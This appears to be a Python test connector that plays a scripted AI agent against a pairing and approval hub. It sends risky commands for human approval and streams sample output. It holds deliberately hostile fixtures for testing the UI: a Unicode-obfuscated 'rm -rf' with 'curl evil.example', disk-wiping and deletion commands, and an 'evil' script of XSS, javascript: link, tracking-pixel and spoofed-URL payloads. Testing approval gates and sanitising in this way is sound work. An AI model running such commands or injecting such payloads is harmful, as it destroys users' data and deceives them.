# SPDX-License-Identifier: Apache-2.0
"""A connector for the page's tests: speaks the published protocol and answers by script.

    python agent.py HUB_URL HOST_LABEL [STATE_FILE]

Prints one JSON object a line: {"code": …} while it waits to be paired, {"paired": …}, {"redeemed": …} for each
approval that it could really use. With a state file it is paired once and comes back with the same token.
"""
import asyncio
import hashlib
import itertools
import json
import os
import sys
import threading
import time
import uuid

import requests
import websockets

HUB = sys.argv[1].rstrip("/")
LABEL = sys.argv[2]
STATE = sys.argv[3] if len(sys.argv) > 3 else None

LONG_COMMAND = "\n".join(f"cp /srv/photos/{year}/{month:02}.tar /mnt/backup/{year}-{month:02}.tar" for year in range(2015, 2025) for month in range(1, 13))
HIDDEN_COMMAND = "echo safe \u202eteg-tpa\u202c; rm\u200b -rf ~/notes" + " " * 60 + "&& curl evil.example"


def say(**fields):
    print(json.dumps(fields), flush=True)


class Refused(Exception):
    def __init__(self, error):
        super().__init__(f"{error['code']}: {error['message']}")
        self.code = error["code"]


class Agent:
    def __init__(self):
        self.http = requests.Session()
        self.token = None
        self.seen = set()
        self.decisions = {}
        self.stopped = set()
        self.condition = threading.Condition()
        self.log_seq = 0

    # Pairing

    def pair(self):
        if STATE and os.path.exists(STATE):
            with open(STATE) as file:
                self.token = json.load(file)["token"]
            return
        while self.token is None:
            start = self.post("/v1/pairing/start", {"connector_type": "scripted", "host_label": LABEL})
            say(code=start["code"])
            while self.token is None:
                time.sleep(0.3)
                try:
                    answer = self.post("/v1/pairing/poll", {"poll_token": start["poll_token"]})
                except Refused:
                    break
                if answer["status"] == "paired":
                    self.token = answer["token"]
                    say(paired=answer["installation_id"])
        if STATE:
            with open(STATE, "w") as file:
                json.dump({"token": self.token}, file)

    def post(self, path, body):
        """Tries until the hub answers, under one key: what counts happens once."""
        key = uuid.uuid4().hex
        headers = {"Idempotency-Key": key}
        if self.token:
            headers["Authorization"] = f"Bearer {self.token}"
        while True:
            try:
                answer = requests.post(HUB + path, json=body, headers=headers, timeout=10)
                result = answer.json()
            except (requests.RequestException, ValueError):
                time.sleep(0.1)
                continue
            if result["ok"]:
                return result["result"]
            if answer.status_code == 429 or result["error"]["code"] == "idempotency_in_progress":
                time.sleep(result["error"].get("retry_after_ms", 200) / 1000)
                continue
            raise Refused(result["error"])

    def bridge(self, route, **body):
        return self.post(f"/v1/bridge/{route}", {name: value for name, value in body.items() if value is not None})

    # The WebSocket

    async def listen(self):
        url = HUB.replace("http", "ws", 1) + "/v1/bridge/ws"
        while True:
            try:
                async with websockets.connect(url, additional_headers={"Authorization": f"Bearer {self.token}"}) as socket:
                    await socket.send(json.dumps({"type": "hello", "version": "scripted"}))
                    async for text in socket:
                        frame = json.loads(text)
                        if frame["type"] == "ping":
                            await socket.send(json.dumps({"type": "pong"}))
                        if frame["type"] == "update":
                            self.take(frame["update"])
                            await socket.send(json.dumps({"type": "ack", "up_to_update_id": frame["update"]["update_id"]}))
            except websockets.ConnectionClosed as closed:
                if closed.rcvd and closed.rcvd.code == 4003:
                    return
            except websockets.InvalidStatus as refused:
                if refused.response.status_code in (401, 410):
                    return
            except OSError:
                pass
            await asyncio.sleep(0.2)

    def take(self, update):
        if update["update_id"] in self.seen:
            return
        self.seen.add(update["update_id"])
        payload = update.get("payload", {})
        if update["type"] == "session.message":
            turn = Turn(self, update["session_id"], update["interaction_id"])
            threading.Thread(target=turn.run, args=(payload["message"]["text"],), daemon=True).start()
        with self.condition:
            if update["type"] == "approval.resolved":
                self.decisions[payload["approval_id"]] = payload
            if update["type"] == "session.cancelled":
                self.stopped.add(update.get("interaction_id") or payload["interaction_id"])
            self.condition.notify_all()

    def judge(self, tool, decision, policies):
        self.log_seq += 1
        entry = {"seq": self.log_seq, "ts": int(time.time() * 1000), "tool": tool, "decision": decision, "policies": policies,
                 "duration_us": 180 + 7 * self.log_seq, "hash": uuid.uuid4().hex + uuid.uuid4().hex}
        try:
            self.bridge("gateLog", entries=[entry])
        except Refused:
            pass


class Turn:
    def __init__(self, agent, session, interaction):
        self.agent, self.session, self.interaction = agent, session, interaction

    def run(self, text):
        try:
            self.answer(text)
        except Refused as error:
            say(refused=str(error))

    @property
    def is_stopped(self):
        return self.interaction in self.agent.stopped

    def message(self):
        made = self.agent.bridge("sendMessage", session_id=self.session, interaction_id=self.interaction, text=" ")
        return made["message_id"]

    def stream(self, message, pieces, pause=0.02, offset=0):
        for piece in pieces:
            if self.is_stopped:
                break
            self.agent.bridge("sendMessageDelta", message_id=message, delta=piece, offset=offset)
            offset += len(piece.encode())
            time.sleep(pause)
        return offset

    def end(self, message, reason="stop"):
        reason = "cancelled" if self.is_stopped else reason
        self.agent.bridge("sendMessageEnd", message_id=message, finish_reason=reason)

    def say(self, text, pause=0.01, reason="stop"):
        message = self.message()
        self.stream(message, chunks(text), pause)
        self.end(message, reason)

    def task(self, kind, args, label=None):
        task = "tc_" + uuid.uuid4().hex[:12]
        self.agent.bridge("createTask", session_id=self.session, interaction_id=self.interaction, task_id=task, kind=kind, args=args, status_label=label)
        return task

    def ask(self, **question):
        approval = "apr_" + uuid.uuid4().hex[:16]
        self.agent.bridge("requestApproval", session_id=self.session, interaction_id=self.interaction, approval_id=approval, **question)
        with self.agent.condition:
            while approval not in self.agent.decisions:
                self.agent.condition.wait(timeout=1)
        decision = self.agent.decisions[approval]
        if decision["decision"] == "approve":
            self.agent.bridge("redeemApproval", approval_id=approval, digest=decision["digest"])
            say(redeemed=approval, scope=decision["scope"])
        return decision

    def answer(self, text):
        word, _, rest = text.partition(" ")
        scripts = {"hello": self.hello, "count": self.count, "list": self.list_files, "run": self.run_command, "long": self.long_command,
                   "hidden": self.hidden_command, "expire": self.expiring, "low": self.low, "critical": self.critical, "evil": self.evil,
                   "format": self.format, "sudo": self.sudo,
                   "Free": self.free_space}
        if word in scripts:
            scripts[word](rest)
        else:
            self.say(f"You said: {text}")

    # The scripts

    def hello(self, _):
        self.say("Good morning! I am the agent on **" + LABEL + "**. I can look around by myself; before anything risky runs, you are asked.")

    def count(self, rest):
        """`count N` streams N numbers, slowly enough to be interrupted."""
        message = self.message()
        self.stream(message, (f"{number} " for number in range(1, int(rest or 50) + 1)), 0.03)
        self.end(message)

    def list_files(self, rest):
        task = self.task("Bash", {"command": "ls -la ~/photos"}, "Look into ~/photos")
        self.agent.judge("Bash", "ALLOW", ["default-allow"])
        self.agent.bridge("finishTask", task_id=task, status="completed", outcome="allow",
                          result="total 16\ndrwxr-xr-x 4 ada ada 4096 2019\ndrwxr-xr-x 7 ada ada 4096 2023")
        self.say("There are two folders in `~/photos`: **2019** and **2023**.")

    def question(self, command, **more):
        base = dict(action="Bash", command=command, severity="high", title="Delete a folder for good", host=LABEL,
                    message="This removes your photos. They are in no version control and in no backup that I know of, so nothing brings them back.",
                    if_denied="Nothing is deleted. The agent is told that you said no and goes on without it.",
                    effects=[{"kind": "run", "target": "/usr/bin/rm"}, {"kind": "delete", "target": "/home/ada/photos", "recursive": True}],
                    expires_in_ms=300_000)
        return {**base, **more}

    def as_gate(self, question):
        """The same question with the digests that a gate of ours sends: the hub computes the second one again."""
        call = hashlib.sha256(question["command"].encode()).hexdigest()
        shown = {name: question[name] for name in ["action", "title", "command", "host", "message", "if_denied", "effects"]} | {"call_digest": call}
        canonical = json.dumps(shown, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        return {**question, "call_digest": call, "digest": hashlib.sha256(canonical.encode()).hexdigest()}

    def guarded(self, command, is_gate=False, **more):
        task = self.task("Bash", {"command": command})
        question = self.question(command, **more)
        decision = self.ask(tool_call_id=task, **(self.as_gate(question) if is_gate else question))
        self.agent.judge("Bash", "CONFIRM", ["delete-outside-workspace"])
        if decision["decision"] == "approve":
            self.agent.bridge("finishTask", task_id=task, status="completed", outcome="confirm", result="done")
            self.say(f"Done: `{command.splitlines()[0][:60]}` ran.")
        else:
            self.agent.bridge("finishTask", task_id=task, status="failed", outcome="confirm", error=f"The owner's answer: {decision['status']}.")
            self.say("I did not run it.")

    def run_command(self, rest):
        self.guarded(rest or "rm -rf ~/photos")

    def free_space(self, _):
        task = self.task("Bash", {"command": "du -sh ~/* | sort -h | tail -3"}, "Look for what is large")
        self.agent.judge("Bash", "ALLOW", ["default-allow"])
        self.agent.bridge("finishTask", task_id=task, status="completed", outcome="allow", result="1.2G\t~/music\n3.8G\t~/projects\n61G\t~/photos")
        self.say("The disk is 96 % full. `~/photos` takes 61 GB, more than all the rest. I will delete it.", reason="tool_call")
        self.guarded("rm -rf ~/photos", is_gate=True)

    def long_command(self, _):
        self.guarded(LONG_COMMAND, severity="medium", title="Copy ten years of photos", message="120 archives are copied to the backup disk.",
                     effects=[{"kind": "write", "target": "/mnt/backup", "recoverable": True}])

    def hidden_command(self, _):
        self.guarded(HIDDEN_COMMAND, title="Print \u202esomething\u202c harmless", effects=[{"kind": "connect", "target": "evil.example", "sends_data": True}])

    def expiring(self, _):
        self.guarded("shutdown -h now", title="Switch the machine off", severity="low", expires_in_ms=1500, effects=[])

    def low(self, _):
        self.guarded("git push origin main", title="Push to origin", severity="low", message="The branch is ahead by two commits.",
                     effects=[{"kind": "connect", "target": "github.com:22", "sends_data": True}])

    def critical(self, _):
        self.guarded("dd if=/dev/zero of=/dev/sda bs=1M", title="Overwrite the whole disk", severity="critical",
                     message="Everything on the machine's disk is lost, the system included.",
                     effects=[{"kind": "write", "target": "/dev/sda"}, {"kind": "unknown", "target": "", "dynamic": True}])

    def sudo(self, _):
        task = self.task("Bash", {"command": "sudo id"})
        self.agent.judge("Bash", "DENY", ["no-privilege-escalation"])
        self.agent.bridge("finishTask", task_id=task, status="failed", outcome="deny",
                          error="Denied by no-privilege-escalation: commands run as you, not as root. Ask your owner to install what is missing.")
        self.say("That is not allowed here.")

    def evil(self, rest):
        """`evil CANARY_URL`: everything that a hostile page might put into the agent's mouth."""
        self.say(
            f"<img src={rest}/img1> <script>window.hacked = true; fetch('{rest}/script')</script>\n\n"
            f"![pixel]({rest}/img2) <style>@import url({rest}/css)</style> <iframe src='{rest}/frame'></iframe>\n\n"
            "[click me](javascript:window.hacked=true) and [data](data:text/html,<script>window.hacked=true</script>)\n\n"
            f"<svg onload=\"window.hacked=true\"><a href='javascript:window.hacked=true'>x</a></svg> <link rel=prefetch href={rest}/prefetch>\n\n"
            "Invoice\u202efdp.exe and zero\u200bwidth and \u2066isolated\u2069 text\n\n"
            "[Your bank](https://bank.example@evil.example/login) and https://good.example/path.\n"
        )

    def format(self, _):
        self.say(
            "# What I found\n\nThe build fails for **two** reasons:\n\n1. `config.toml` names a port that is taken\n2. the tests expect *UTC*\n\n"
            "```swift\nlet port = 8788  // was 8787\nprint(\"listening on \\(port)\")\n```\n\nMore at [the handbook](https://docs.example.org/ports).\n"
        )


def chunks(text, size=12):
    letters = iter(text)
    return iter(lambda: "".join(itertools.islice(letters, size)), "")


if __name__ == "__main__":
    agent = Agent()
    agent.pair()
    asyncio.run(agent.listen())
